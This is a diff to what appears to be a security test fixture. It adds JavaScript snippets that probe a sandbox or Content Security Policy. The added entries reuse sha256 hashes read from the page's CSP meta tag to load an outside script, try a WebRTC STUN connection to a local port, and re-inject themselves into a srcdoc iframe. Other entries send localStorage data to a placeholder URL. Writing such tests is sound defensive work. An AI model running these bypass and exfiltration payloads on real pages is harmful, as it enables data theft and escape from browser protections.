@@ -132,6 +132,9 @@ SCRIPTS = {
     "host's page": "parent.document.title = 'taken'",
     "storage": "localStorage.setItem('a', 'b'); fetch('URL/' + localStorage.getItem('a'))",
     "eval": "eval('fetch(\"URL/x\")'); new Function('fetch(\"URL/x\")')(); setTimeout('fetch(\"URL/x\")')",
+    "script with a known hash": "for (const hash of document.querySelector('meta').content.match(/sha256-[^']+/g)) { const s = document.createElement('script'); s.integrity = hash; s.src = 'URL/x'; document.head.append(s) }",
+    "preload with a known hash": "for (const hash of document.querySelector('meta').content.match(/sha256-[^']+/g)) for (const rel of ['preload', 'modulepreload']) document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', integrity: hash, href: 'URL/x'}))",
+    "itself in a frame": "if (self.RTCPeerConnection) { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o)) } else { const f = document.createElement('iframe'); f.srcdoc = '<script>' + document.currentScript.textContent + '</' + 'script>'; document.body.append(f) }",
     "payment and files": "navigator.credentials && navigator.credentials.get({password: true}); window.showOpenFilePicker && showOpenFilePicker()",
 }  # fmt: skip
 
